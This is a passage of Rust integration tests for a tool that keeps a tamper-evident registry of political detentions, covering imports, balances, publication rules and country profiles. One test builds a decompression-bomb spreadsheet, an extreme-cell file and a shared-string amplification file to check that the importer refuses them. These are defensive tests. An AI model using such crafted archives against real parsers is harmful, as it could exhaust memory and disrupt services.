    both_engines(|r| {
        let demo = r.demo_csv("demo.csv", 7, 2000);
        let mut rd = csv::Reader::from_path(&demo).unwrap();
        let headers = rd.headers().unwrap().clone();
        let col = |name: &str| headers.iter().position(|h| h == name).unwrap();
        let (person, sex, service) = (col("person_ref"), col("sex"), col("civilian_military"));
        let mut rows: Vec<csv::StringRecord> = rd.records().map(Result::unwrap).collect();
        // The first two persons arrested twice: the second arrest of one says the other sex,
        // of the other the other service. (Line = index + 2: the header is line 1.)
        let mut seen: std::collections::HashMap<String, usize> = Default::default();
        let mut twice = Vec::new();
        for (i, row) in rows.iter().enumerate() {
            if let Some(&first) = seen.get(&row[person]) {
                if twice.len() < 2 && !twice.iter().any(|(f, _)| *f == first) {
                    twice.push((first, i));
                }
            } else {
                seen.insert(row[person].to_string(), i);
            }
        }
        assert_eq!(twice.len(), 2, "the demo arrests some persons again");
        let mut expected = Vec::new();
        for (k, (first, again)) in twice.into_iter().enumerate() {
            let (column, name) = if k == 0 {
                (sex, "sex")
            } else {
                (service, "civilian_military")
            };
            let was = rows[first][column].to_string();
            let other = match was.as_str() {
                "F" => "M",
                "M" => "F",
                "civilian" => "military",
                _ => "civilian",
            };
            let mut cells: Vec<String> = rows[again].iter().map(str::to_string).collect();
            cells[column] = other.to_string();
            rows[again] = csv::StringRecord::from(cells);
            expected.push(format!(
                "line {}, column {name}: \"{other}\" contradicts \"{was}\" on line {} for person \"{}\"; \"{was}\" is kept",
                again + 2,
                first + 2,
                &rows[first][person]
            ));
        }
        let file = r.path("disagree.csv");
        let mut w = csv::Writer::from_path(&file).unwrap();
        w.write_record(&headers).unwrap();
        for row in &rows {
            w.write_record(row).unwrap();
        }
        w.flush().unwrap();

        r.ok(&["init"]);
        let import = || {
            let out = r.run(&["import", "detentions", file.to_str().unwrap()]);
            assert!(out.status.success(), "{}", stderr(&out));
            (
                String::from_utf8_lossy(&out.stdout).to_string(),
                stderr(&out),
            )
        };
        let (first, err) = import();
        assert!(first.contains("2,000 rows read: 2,000 stored"), "{first}");
        for (n, (out, err)) in [(first, err), import()].into_iter().enumerate() {
            assert!(
                out.contains("2 person cells in conflict with an earlier row"),
                "{out}"
            );
            for line in &expected {
                assert_eq!(
                    err.matches(line.as_str()).count(),
                    1,
                    "{line} once in:\n{err}"
                );
            }
            assert_eq!(err.matches("contradicts").count(), 2, "{err}");
            if n == 1 {
                assert!(
                    out.contains("0 stored (0 new facts), 2,000 unchanged"),
                    "the second import adds nothing: {out}"
                );
            }
        }
        let facts = r.facts();
        import();
        assert_eq!(r.facts(), facts);
    });
}

#[test]
fn xlsx_with_the_same_columns_imports_like_the_csv() {
    let r = Registry::sqlite();
    let path = r.path("in.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let date = rust_xlsxwriter::Format::new().set_num_format("dd/mm/yyyy");
    for (c, name) in [
        "detention_ref",
        "person_ref",
        "given_names",
        "national_id",
        "arrest_date",
        "arrest_state",
        "recognition",
        "recorded_on",
    ]
    .iter()
    .enumerate()
    {
        sheet.write_string(0, c as u16, *name).unwrap();
    }
    sheet.write_string(1, 0, "D1").unwrap();
    sheet.write_string(1, 1, "P1").unwrap();
    sheet.write_string(1, 2, "María de los Ángeles").unwrap();
    sheet.write_number(1, 3, 12345678.0).unwrap();
    let arrest = rust_xlsxwriter::ExcelDateTime::from_ymd(2024, 8, 2).unwrap();
    sheet
        .write_datetime_with_format(1, 4, &arrest, &date)
        .unwrap();
    sheet.write_string(1, 5, "Edo. Zulia").unwrap();
    sheet.write_string(1, 6, "recognised").unwrap();
    sheet.write_string(1, 7, "2024-08-03").unwrap();
    sheet.write_string(2, 0, "D2").unwrap();
    sheet.write_string(2, 1, "P2").unwrap();
    sheet.write_string(2, 4, "2024-13-01").unwrap();
    book.save(&path).unwrap();

    r.ok(&["init"]);
    let out = r.run(&["import", "detentions", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("line 3, column arrest_date"),
        "{}",
        stderr(&out)
    );
    let export = r.path("out.csv");
    r.ok(&["export", "detentions", "--out", export.to_str().unwrap()]);
    let text = std::fs::read_to_string(&export).unwrap();
    assert!(
        text.contains("D1,P1,María de los Ángeles,,,V-12345678,,,,,,2024-08-02,Zulia,"),
        "{text}"
    );
}

/// A spreadsheet is held to bounds before and while it is read: a cell far to the right, parts
/// that unpack to more than 256 MB, or a format Vigilia does not read, each said with where;
/// nothing is stored (calamine made a dense table up to the farthest cell: a 3 MB file took
/// 1.7 GB).
#[test]
fn a_spreadsheet_beyond_its_bounds_is_refused_before_it_is_read_whole() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let before = r.facts();
    let path = r.path("far.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (c, name) in ["detention_ref", "person_ref", "given_names", "arrest_date"]
        .iter()
        .enumerate()
    {
        sheet.write_string(0, c as u16, *name).unwrap();
    }
    for (c, value) in ["D1", "P1", "Ana", "2024-08-02"].iter().enumerate() {
        sheet.write_string(1, c as u16, *value).unwrap();
    }
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    book.save(&path).unwrap();
    let out = r.run(&["import", "detentions", path.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("row 1,048,576: there is a cell in column 16,384"),
        "{}",
        stderr(&out)
    );
    // Parts that declare more than 256 MB (a bomb that declares less is cut where it says).
    let mut bytes = std::fs::read(&path).unwrap();
    let central = bytes
        .windows(4)
        .position(|w| w == [0x50, 0x4b, 0x01, 0x02])
        .unwrap();
    bytes[central + 24..central + 28].copy_from_slice(&0x2000_0000u32.to_le_bytes());
    let bomb = r.path("bomb.xlsx");
    std::fs::write(&bomb, bytes).unwrap();
    let out = r.run(&["import", "detentions", bomb.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("unpacks to more than 256 MB"),
        "{}",
        stderr(&out)
    );
    // One long text shared by many cells: small on disk, read once per cell.
    let shared = r.path("shared.xlsx");
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    let long = "x".repeat(32_000);
    for row in 0..5_000u32 {
        sheet.write_string(row, 0, &long).unwrap();
    }
    book.save(&shared).unwrap();
    assert!(std::fs::metadata(&shared).unwrap().len() < 1_000_000);
    let out = r.run(&["import", "detentions", shared.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("more than 128 MB of text"),
        "{}",
        stderr(&out)
    );
    let ods = r.path("tabla.ods");
    std::fs::write(&ods, b"PK").unwrap();
    let out = r.run(&[
        "--lang",
        "es",
        "import",
        "detentions",
        ods.to_str().unwrap(),
    ]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains("guarde esta como .xlsx o .csv"),
        "{}",
        stderr(&out)
    );
    assert_eq!(r.facts(), before);
}

#[test]
fn verify_names_the_first_tampered_fact_and_rebuild_is_identical() {
    let r = Registry::sqlite();
    r.ok(&["demo", "--seed", "3", "--detentions", "500"]);
    let ok = r.ok(&["verify"]);
    assert!(ok.contains("Chain intact"), "{ok}");
    let rebuilt = r.ok(&["rebuild"]);
    assert!(
        rebuilt.contains("Identical to the one before."),
        "{rebuilt}"
    );

    let db = r.path("registry.db");
    // Without the key the file is unreadable: plain SQLite refuses it, and neither its tables
    // nor anyone's name can be found in its bytes (nor in its write-ahead log).
    let plain = rusqlite::Connection::open(&db).unwrap();
    let refused = plain
        .query_row("SELECT count(*) FROM sqlite_master", [], |r| {
            r.get::<_, i64>(0)
        })
        .unwrap_err();
    assert!(refused.to_string().contains("not a database"), "{refused}");
    drop(plain);
    let export = r.path("export.csv");
    r.ok(&["export", "detentions", "--out", export.to_str().unwrap()]);
    let mut rows = csv::Reader::from_path(&export).unwrap();
    let column = rows
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "paternal_surname")
        .unwrap();
    let someone = rows.records().next().unwrap().unwrap()[column].to_string();
    assert!(someone.len() > 3, "{someone:?}");
    for file in ["registry.db", "registry.db-wal"] {
        if let Ok(bytes) = std::fs::read(r.path(file)) {
            for needle in ["CREATE TABLE", "facts", someone.as_str()] {
                assert!(
                    !bytes.windows(needle.len()).any(|w| w == needle.as_bytes()),
                    "{needle:?} readable in {file}"
                );
            }
        }
    }
    let conn = open_keyed(&db);
    conn.execute("UPDATE facts SET change = replace(change, 'released', 'escaped') WHERE seq = (SELECT min(seq) FROM facts WHERE change LIKE '%\"released\"%')", []).unwrap();
    let seq: i64 = conn
        .query_row(
            "SELECT min(seq) FROM facts WHERE change LIKE '%escaped%'",
            [],
            |r| r.get(0),
        )
        .unwrap();
    drop(conn);
    let out = r.run(&["verify"]);
    assert_eq!(out.status.code(), Some(3));
    assert!(
        stderr(&out).contains(&format!("fact {seq}:")),
        "{}",
        stderr(&out)
    );
    assert!(
        stderr(&out).contains("does not match its hash"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_second_country_profile_loads_without_code() {
    let r = Registry::sqlite();
    let profile = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../profiles/by.toml");
    r.ok(&["init", "--profile", profile.to_str().unwrap()]);
    let file = r.write(
        "by.csv",
        "detention_ref,person_ref,arrest_date,arrest_state,agency,recognition\nB1,P1,2020-08-10,Minsk,ОМОН,recognised\nB2,P2,2020-08-10,Zulia,KGB,recognised\n",
    );
    let out = r.run(&["import", "detentions", file.to_str().unwrap()]);
    assert!(
        stderr(&out).contains("line 3, column arrest_state: \"Zulia\" is not a state"),
        "{}",
        stderr(&out)
    );
    let summary = r.ok(&["summary", "--as-of", "2020-08-20"]);
    assert!(summary.contains("profile Belarus"), "{summary}");
    assert_eq!(prisoners(&r, &["--as-of", "2020-08-20"]), 1);
}

/// The number of political prisoners from `vigilia balance … --format json`.
fn prisoners(r: &Registry, args: &[&str]) -> u64 {
    let mut all = vec!["balance", "--format", "json"];
    all.extend_from_slice(args);
    let b: serde_json::Value = serde_json::from_str(&r.ok(&all)).unwrap();
    b["political_prisoners"]["total"].as_u64().unwrap()
}

#[test]
fn dates_in_the_future_and_malformed_dates_are_refused() {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    for args in [
        ["summary", "--as-of", "2026-12-01"],
        ["summary", "--as-of", "2026-13-01"],
        ["summary", "--known-on", "2030-01-01"],
    ] {
        let out = r.run(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
    }
    let file = r.write(
        "f.csv",
        "detention_ref,person_ref,arrest_date,recorded_on\nD1,P1,2026-11-01,2026-11-25\n",
    );
    let out = r.run(&["import", "detentions", file.to_str().unwrap()]);
    assert!(
        stderr(&out).contains("line 2, column recorded_on: 2026-11-25 is after today (2026-11-20)"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn a_batch_acknowledged_before_a_kill_is_kept() {
    let r = Registry::sqlite();
    let demo = r.demo_csv("big.csv", 11, 120000);
    r.ok(&["init"]);
    let mut child = r
        .command(&["import", "detentions", demo.to_str().unwrap()])
        .stderr(Stdio::piped())
        .stdout(Stdio::null())
        .spawn()
        .unwrap();
    // The first "(stored)" line is the acknowledgement of a committed batch: kill right after it.
    let mut acknowledged = None;
    for line in BufReader::new(child.stderr.take().unwrap()).lines() {
        let line = line.unwrap();
        if line.contains("(stored)") {
            let n = line
                .split('%')
                .nth(1)
                .unwrap()
                .split_whitespace()
                .next()
                .unwrap()
                .replace(',', "");
            acknowledged = Some(n.parse::<u64>().unwrap());
            child.kill().unwrap();
            break;
        }
    }
    child.wait().unwrap();
    let acknowledged = acknowledged.expect("the import acknowledged a batch before finishing");
    assert!(acknowledged < 120_000, "killed before the end");
    let e = r.path("after.csv");
    r.ok(&["export", "detentions", "--out", e.to_str().unwrap()]);
    let rows = std::fs::read_to_string(&e).unwrap().lines().count() as u64 - 1;
    assert!(
        rows >= acknowledged,
        "{rows} rows survived, {acknowledged} were acknowledged"
    );
    assert!(r.ok(&["verify"]).contains("Chain intact"));
    // Importing the file again completes it, without duplicates.
    let out = r.ok(&["import", "detentions", demo.to_str().unwrap()]);
    assert!(out.contains(&format!("{} unchanged", fmt(rows))), "{out}");
}

fn fmt(n: u64) -> String {
    let s = n.to_string();
    let mut out = String::new();
    for (i, c) in s.chars().enumerate() {
        if i > 0 && (s.len() - i).is_multiple_of(3) {
            out.push(',');
        }
        out.push(c);
    }
    out
}

/// A small registry whose figures are counted by hand in the tests below.
fn counted_registry() -> Registry {
    let r = Registry::sqlite();
    r.ok(&["init"]);
    let file = r.write(
        "c.csv",
        &format!(
            "{HEADER}\n\
             D1,P1,Ana,Gómez,,,F,,2024-07-29,Zulia,SEBIN,El Helicoide,,,recognised,1,2024-07-30,\n\
             D2,P2,Luis,Díaz,,,M,,2024-07-30,Lara,GNB,,2024-08-12,released_under_measures,recognised,2,2024-07-31,2024-08-13\n\
             D3,P3,Juan,Rojas,,,M,,2024-08-10,Lara,GNB,,,,recognised,2,2024-08-11,\n\
             D4,P4,Rosa,Pérez,,,F,,2024-08-01,Lara,GNB,,,,under_study,,2024-08-02,\n\
             D5,P5,Pedro,Marín,,,M,,2024-08-01,Lara,GNB,,2024-08-02,released,recognised,3,2024-08-02,2024-08-02\n"
        ),
    );
    r.ok(&["import", "detentions", file.to_str().unwrap()]);
    r
}

#[test]
fn the_balance_counts_by_the_rules_and_its_json_is_stable() {
    let r = counted_registry();
    let out = r.ok(&["balance", "--as-of", "2024-08-11", "--format", "json"]);
    let b: serde_json::Value = serde_json::from_str(&out).unwrap();
    for key in [
        "as_of",
        "known_on",
        "rules",
        "ledger_head",
        "political_prisoners",
        "held",
        "period",
        "cumulative",
        "under_study",
    ] {
        assert!(b.get(key).is_some(), "missing {key}");
    }
    assert_eq!(b["rules"], "foro-penal-1");
    assert_eq!(b["known_on"], serde_json::Value::Null);
    // D1 held since 07-29 (prisoner); D2 released 08-12 (still a prisoner on 08-11);
    // D3 arrested 08-10 (held, not yet 48 hours); D5 lasted one day.
    assert_eq!(b["political_prisoners"]["total"], 2);
    assert_eq!(b["held"]["total"], 3);
    assert_eq!(b["under_study"]["total"], 1);
    assert_eq!(b["political_prisoners"]["by"]["sex"]["F"], 1);
    assert_eq!(b["political_prisoners"]["by"]["state"]["Zulia"], 1);
    assert_eq!(
        b["political_prisoners"]["by"]["facility"]["El Helicoide"],
        1
    );
    assert_eq!(b["period"]["from"], "2024-08-04");
    assert_eq!(b["period"]["political_detentions"], 1);
    assert_eq!(b["cumulative"]["political_detentions"], 4);
    let dims = b["political_prisoners"]["by"].as_object().unwrap();
    assert_eq!(dims.len(), 13);
    for (dim, values) in dims {
        let sum: u64 = values
            .as_object()
            .unwrap()
            .values()
            .map(|v| v.as_u64().unwrap())
            .sum();
        if dim != "charge" && dim != "context" {
            assert_eq!(sum, 2, "{dim} sums to the total");
        }
    }
    let week = r.ok(&["balance", "--as-of", "2024-08-15", "--format", "json"]);
    let w: serde_json::Value = serde_json::from_str(&week).unwrap();
    assert_eq!(w["period"]["releases"], 1);
    assert_eq!(w["period"]["prisoner_releases"], 1);
    assert_eq!(
        w["period"]["new_prisoners"], 1,
        "D3 became a prisoner on 08-12"
    );
    assert_eq!(w["period"]["ends_by_type"]["released_under_measures"], 1);

    let before = r.facts();
    let list = r.ok(&[
        "balance",
        "--as-of",
        "2024-08-11",
        "--list",
        "political_prisoners:sex=F",
        "--format",
        "csv",
    ]);
    assert_eq!(list.lines().count(), 2, "{list}");
    assert!(list.contains("D1,P1,Ana Gómez"), "{list}");
    assert_eq!(
        r.facts(),
        before + 1,
        "names listed behind a figure are recorded as seen, as on the web"
    );
}

/// A balance is published with the movements of the week before it: a period of a day or two,
/// or a day longer than another publication's, would date a single release or death. Refused,
/// nothing stored; the week is published.
#[test]
fn a_balance_is_published_with_the_week_before_it() {
    let r = counted_registry();
    let before = r.facts();
    let short = r.run(&[
        "balance",
        "--as-of",
        "2024-08-11",
        "--since",
        "2024-08-09",
        "--publish",
    ]);
    assert_eq!(short.status.code(), Some(2), "{}", stderr(&short));
    assert!(
        stderr(&short).contains("the week before the balance's date (from 5 Aug 2024)"),
        "{}",
        stderr(&short)
    );
    assert_eq!(r.facts(), before, "nothing stored");
    r.ok(&["balance", "--as-of", "2024-08-11", "--publish"]);
    assert_eq!(r.facts(), before + 1);
}

#[test]
fn a_published_balance_reproduces_identically_after_corrections() {
    let r = counted_registry();
    let published = r.ok(&[
        "balance",
        "--as-of",
        "2024-08-11",
        "--publish",
        "--format",
        "json",
    ]);
    // Later the organisation learns D1 was released on 08-05, and D3 is not political.
    let fix = r.write(
        "fix.csv",
        &format!(
            "{HEADER}\n\
             D1,P1,Ana,Gómez,,,F,,2024-07-29,Zulia,SEBIN,El Helicoide,2024-08-05,released,recognised,1,2024-07-30,2024-08-20\n\
             D3,P3,Juan,Rojas,,,M,,2024-08-10,Lara,GNB,,,,not_recognised,,2024-08-11,\n"
        ),
    );
    r.ok(&["import", "detentions", fix.to_str().unwrap()]);
    let again = r.ok(&["balance", "--reproduce", "1", "--format", "json"]);
    assert_eq!(again, published, "byte-identical figures");
    let now = r.ok(&["balance", "--reproduce", "1", "--compare-now"]);
    let prisoners = now
        .lines()
        .find(|l| l.contains("political prisoners"))
        .unwrap();
    assert!(
        prisoners
            .split_whitespace()
            .rev()
            .take(3)
            .collect::<Vec<_>>()
            == ["-1", "1", "2"],
        "{now}"
    );
    // The corrected figures published for the same date: only with a note saying what changed.
    let bare = r.run(&["balance", "--as-of", "2024-08-11", "--publish"]);
    assert_eq!(bare.status.code(), Some(2), "{}", stderr(&bare));
    assert!(
        stderr(&bare).contains("say in the note what this one corrects"),
        "{}",
        stderr(&bare)
    );
    let said = r.run(&[
        "balance",
        "--as-of",
        "2024-08-11",
        "--publish",
        "--note",
        "Corrige la n.º 1: Ana fue excarcelada el 5 de agosto",
    ]);
    assert!(said.status.success(), "{}", stderr(&said));
    assert!(
        stderr(&said).contains("published as number 2"),
        "{}",
        stderr(&said)
    );
    // What the registry knew before the day figures were last published is public: a new
    // row dated as recorded before it is refused (a balance "as known on" such a day would
    // change); without the date it is recorded today; the export imported again is unchanged.
    let late = r.write(
        "late.csv",
        &format!(
            "{HEADER}\n\
             D6,P6,Eva,Luna,,,F,,2024-08-12,Zulia,SEBIN,,,,recognised,1,2024-08-13,\n\
             D7,P7,Ivo,Sol,,,M,,2024-08-12,Zulia,SEBIN,,,,recognised,1,,\n"
        ),
    );
    let out = r.run(&["import", "detentions", late.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(
            "line 2, column recorded_on: 2024-08-13 is not after 2026-11-20, the last day figures were made public"
        ),
        "{}",
        stderr(&out)
    );
    assert!(
        String::from_utf8_lossy(&out.stdout).contains("2 rows read: 1 stored"),
        "{}",
        String::from_utf8_lossy(&out.stdout)
    );
    let export = r.path("all.csv");
    r.ok(&["export", "detentions", "--out", export.to_str().unwrap()]);
    let again = r.ok(&["import", "detentions", export.to_str().unwrap()]);
    assert!(again.contains("6 unchanged"), "{again}");
    // A list of events said to be recorded before then is refused whole, nothing stored.
    let facts = r.facts();
    let out = import_events(
        &r,
        "e1,10.08.2024,Distrito Capital,40\n",
        "recorded_on = \"2024-08-15\"\n",
    );
    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
    assert!(
        stderr(&out).contains(
            "recorded_on = 15 Aug 2024 is not after 20 Nov 2026, the last day figures were made public"
        ),
        "{}",
        stderr(&out)
    );
    assert_eq!(r.facts(), facts);
    let out = r.run(&["balance", "--reproduce", "9"]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn balance_refuses_bad_dates_and_unknown_dimensions() {
    let r = counted_registry();
    for (args, expected) in [
        (vec!["balance", "--as-of", "2026-11-21"], "after today"),
        (vec!["balance", "--known-on", "2026-12-01"], "after today"),
        (vec!["balance", "--as-of", "2024-02-30"], "does not exist"),
        (
            vec!["balance", "--as-of", "el 15 de agosto"],
            "is not a date",
        ),
        (vec!["balance", "--list", "height=tall"], "--list"),
        (
            vec!["diff", "--from", "2024-08-10", "--to", "2024-08-01"],
            "must be before",
        ),
    ] {
        let out = r.run(&args);
        assert_eq!(out.status.code(), Some(2), "{args:?}");
        assert!(
            stderr(&out).contains(expected),
            "{args:?}: {}",
            stderr(&out)
        );
    }
    // The text balance says its breakdowns in words, in the language asked for.
    let text = r.ok(&["--lang", "es", "balance", "--as-of", "2024-08-15"]);
    assert!(
        text.contains("Civiles y militares") && !text.contains("civilian_military"),
        "{text}"
    );
    // Dates as people type them are read as the ISO ones.
    assert_eq!(
        r.ok(&["balance", "--as-of", "15/08/2024", "--format", "json"]),
        r.ok(&["balance", "--as-of", "2024-08-15", "--format", "json"])
    );
    let ok = r.ok(&[
        "balance",
        "--as-of",
        "2024-08-15",
        "--known-on",
        "2024-08-12",
    ]);
    assert!(
        ok.contains("as known on 2024-08-12"),
        "a known-on date before as-of is allowed: {ok}"
    );
    let diff = r.run(&["diff", "--from", "2024-08-01", "--to", "2024-08-15"]);
    assert!(diff.status.success());
    assert!(
        stderr(&diff).contains("1 became political prisoners, 1 stopped being ones"),
        "{}",
        stderr(&diff)
    );
}

#[test]
fn a_series_has_one_row_per_step_and_draws_the_revolving_door() {
    let r = counted_registry();
    let csv = r.ok(&[
        "series",
        "--from",
        "2024-07-29",
        "--to",
        "2024-08-26",
        "--every",
        "week",
    ]);
    let rows: Vec<&str> = csv.lines().collect();
    assert_eq!(
        rows[0],
        "date,political_prisoners,political_prisoners_lower,political_prisoners_upper,held,political_detentions,releases,prisoner_releases,deaths"
    );
    assert_eq!(rows.len(), 1 + 5, "2024-07-29 … 2024-08-26 every 7 days");
    assert_eq!(rows[2], "2024-08-05,2,2,2,2,2,1,0,0", "{csv}");
    let by = r.ok(&[
        "series",
        "--from",
        "2024-08-05",
        "--to",
        "2024-08-05",
        "--by",
        "sex",
        "--format",
        "json",
    ]);
    let v: serde_json::Value = serde_json::from_str(&by).unwrap();
    assert_eq!(v.as_array().unwrap().len(), 2, "F and M: {by}");
    let svg = r.ok(&[
        "--lang",
        "es",
        "series",
        "--from",
        "2024-07-01",
        "--to",
        "2024-09-30",
        "--format",
        "svg",
    ]);
    assert!(
        svg.starts_with("<svg") && svg.contains("Puerta giratoria"),
        "{}",
        &svg[..200.min(svg.len())]
    );
    // Its days as the pages write them, never ISO.
    assert!(
        svg.contains("/07/2024") && !svg.contains(">2024-07"),
        "{svg}"
    );
    // A dimension whose value changes with the date: D1 is held at El Helicoide from its arrest.
    let by_facility = r.ok(&[
        "series",
        "--from",
        "2024-08-05",
        "--to",
        "2024-08-05",
        "--by",
        "facility",
    ]);
    assert!(
        by_facility
            .lines()
            .any(|l| l.starts_with("2024-08-05,El Helicoide,1,")),
        "{by_facility}"
    );
    let out = r.run(&[
        "series",
        "--from",
        "2024-07-01",
        "--to",
        "2024-09-30",
        "--by",
        "height",
    ]);
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn the_saved_index_follows_corrections_exactly_as_a_full_rebuild() {
    let r = counted_registry();
    let first = r.ok(&["balance", "--as-of", "2024-08-15", "--format", "json"]);
    // The index is saved now; change a person (sex) and a detention (end), and add one.
    let fix = r.write(
        "fix.csv",
        &format!(
            "{HEADER}\n\
             D1,P1,Ana,Gómez,,,X,,2024-07-29,Zulia,SEBIN,El Helicoide,2024-08-14,released,recognised,1,2024-07-30,2024-08-20\n\
             D6,P3,Juan,Rojas,,,M,,2024-08-12,Lara,GNB,,,,recognised,3,2024-08-13,\n"
        ),
    );
    r.ok(&["import", "detentions", fix.to_str().unwrap()]);
    let updated = r.ok(&["balance", "--as-of", "2024-08-15", "--format", "json"]);
    assert_ne!(updated, first);
    let db = r.path("registry.db");
    open_keyed(&db)
        .execute("DELETE FROM snapshots", [])
        .unwrap();
    let rebuilt = r.ok(&["balance", "--as-of", "2024-08-15", "--format", "json"]);
    assert_eq!(
        updated, rebuilt,
        "an updated index counts exactly as one folded from scratch"
    );
    let b: serde_json::Value = serde_json::from_str(&rebuilt).unwrap();
    assert_eq!(
        b["political_prisoners"]["by"]["sex"]["X"], 0,
        "D1 was released"
    );
    assert_eq!(b["held"]["total"], 2, "D3 and D6");
}

/// The real data kept in the repository (`data/real`, each folder with its SOURCE.md): the
/// tables the tests read, the large ones gzip-compressed as `.csv.gz`.
fn real_data(name: &str) -> PathBuf {
    let p = Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../../data/real")
        .join(name);
    assert!(p.exists(), "no such data folder: {}", p.display());
    p
}

/// A table the test reads itself (to reshape it into a reports CSV), gzip-decompressed when its
/// name ends in `.gz`, as the command does.
fn read_table(path: &Path, builder: &csv::ReaderBuilder) -> csv::Reader<Box<dyn std::io::Read>> {
    let file = std::fs::File::open(path).unwrap();
    let input: Box<dyn std::io::Read> = if path.extension().is_some_and(|e| e == "gz") {
        Box::new(flate2::read::MultiGzDecoder::new(file))
    } else {
        Box::new(file)
    };
    builder.from_reader(input)
}

/// `text` gzip-compressed.
fn gzip(text: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(text).unwrap();
    e.finish().unwrap()
}

fn repo_file(path: &str) -> String {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../..")
        .join(path)
        .to_str()
        .unwrap()
        .to_string()
}

#[test]
fn ovdinfo_published_figures_are_reproduced() {
    let data = real_data("ovdinfo-moscow-2011-2013");
    let list = |f: &str| data.join(f).to_str().unwrap().to_string();
    let all = Registry::sqlite();
    all.ok(&["init", "--profile", &repo_file("profiles/ru.toml")]);
    all.ok(&[
        "import",
        "events",
        &list("events_2011-12_to_2012-12.csv"),
        "--mapping",
        &repo_file("examples/ovdinfo/events-2011-12_to_2012-12.toml"),
    ]);
    all.ok(&[
        "import",
        "events",
        &list("events_2013.csv"),
        "--mapping",
        &repo_file("examples/ovdinfo/events-2013.toml"),
    ]);
    let moscow_2013 = Registry::sqlite();
    moscow_2013.ok(&["init", "--profile", &repo_file("profiles/ru.toml")]);
    moscow_2013.ok(&[
        "import",
        "events",
        &list("events_2013.csv"),
        "--mapping",
        &repo_file("examples/ovdinfo/events-2013-moscow.toml"),
    ]);
    let profile = vigilia_core::profile::Profile::from_toml(
        &std::fs::read_to_string(repo_file("profiles/ru.toml")).unwrap(),
    )
    .unwrap();

    let mut balances: std::collections::HashMap<(bool, String, String), serde_json::Value> =
        Default::default();
    let (mut compared, mut exact, mut misses) = (0, 0, Vec::new());
    let mut rd = csv::Reader::from_path(data.join("published_counts.csv")).unwrap();
    for row in rd.records().map(Result::unwrap) {
        let (start, end, region, metric, breakdown, value) =
            (&row[0], &row[1], &row[2], &row[3], &row[4], &row[5]);
        if metric == "distinct_persons_detained" || breakdown.starts_with("mapped") {
            continue; // needs person identities or police stations: not in an event list
        }
        let published: i64 = value.parse().unwrap();
        // Breakdowns of 2013 are of Moscow alone: read them from the Moscow-only registry.
        let moscow_only = start.starts_with("2013") && breakdown != "total";
        let r = if moscow_only { &moscow_2013 } else { &all };
        let since = jiff::civil::Date::strptime("%Y-%m-%d", start)
            .unwrap()
            .yesterday()
            .unwrap()
            .to_string();
        let b = balances
            .entry((moscow_only, since.clone(), end.to_string()))
            .or_insert_with(|| {
                serde_json::from_str(&r.ok(&[
                    "balance", "--as-of", end, "--since", &since, "--format", "json",
                ]))
                .unwrap()
            });
        let events = metric == "events_with_detentions";
        let by = &b["period"][if events { "events_by" } else { "by" }];
        let get = |dim: &str, v: &str| by[dim][v].as_i64().unwrap_or(0);
        let ours = if breakdown == "total" {
            get("state", &profile.state(region).unwrap().name)
        } else if breakdown == "organizer in (Spontaneous, Other)" {
            get("context", "organizer=Spontaneous") + get("context", "organizer=Other")
        } else {
            get("context", breakdown)
        };
        compared += 1;
        let tolerance = if events { 1 } else { 5 };
        if ours == published {
            exact += 1;
        } else if (ours - published).abs() > tolerance {
            misses.push(format!("{start}..{end} {region} {metric} {breakdown}: published {published}, registry {ours}"));
        }
    }
    assert_eq!(
        compared, 90,
        "every comparable published figure was checked"
    );
    assert!(
        misses.is_empty(),
        "beyond max(1 event, 5 detentions):\n{}",
        misses.join("\n")
    );
    assert!(exact >= 78, "{exact} of {compared} exact");
    eprintln!("OVD-Info: {exact} of {compared} published figures exact, all within tolerance");
}

#[test]
fn ovdinfo_revision_as_known_then_and_as_known_now() {
    let data = real_data("ovdinfo-moscow-2011-2013");
    let list = |f: &str| data.join(f).to_str().unwrap().to_string();
    let r = Registry::sqlite();
    r.ok(&["init", "--profile", &repo_file("profiles/ru.toml")]);
    r.ok(&[
        "import",
        "events",
        &list("events_snapshot_2012-11.csv"),
        "--mapping",
        &repo_file("examples/ovdinfo/events-snapshot-2012-11.toml"),
    ]);
    let mapping = repo_file("examples/ovdinfo/events-2011-12_to_2012-12-revision.toml");
    // First with a comma too many on line 43 (event 42, 25 people): that row is refused, and
    // the two events the final list dropped are not set to 0, since this is not the whole
    // list; nor by its rejects file imported after.
    let whole = std::fs::read_to_string(list("events_2011-12_to_2012-12.csv")).unwrap();
    let mut lines: Vec<String> = whole.lines().map(str::to_string).collect();
    lines[42].push(',');
    let damaged = r.write("damaged.csv", &lines.join("\n"));
    let rejects = r.path("rejects.csv");
    let as_known_now = || {
        let args = [
            "balance",
            "--as-of",
            "2012-09-29",
            "--since",
            "2011-12-03",
            "--format",
            "json",
        ];
        let b: serde_json::Value = serde_json::from_str(&r.ok(&args)).unwrap();
        b["period"]["political_detentions"].as_i64().unwrap()
    };
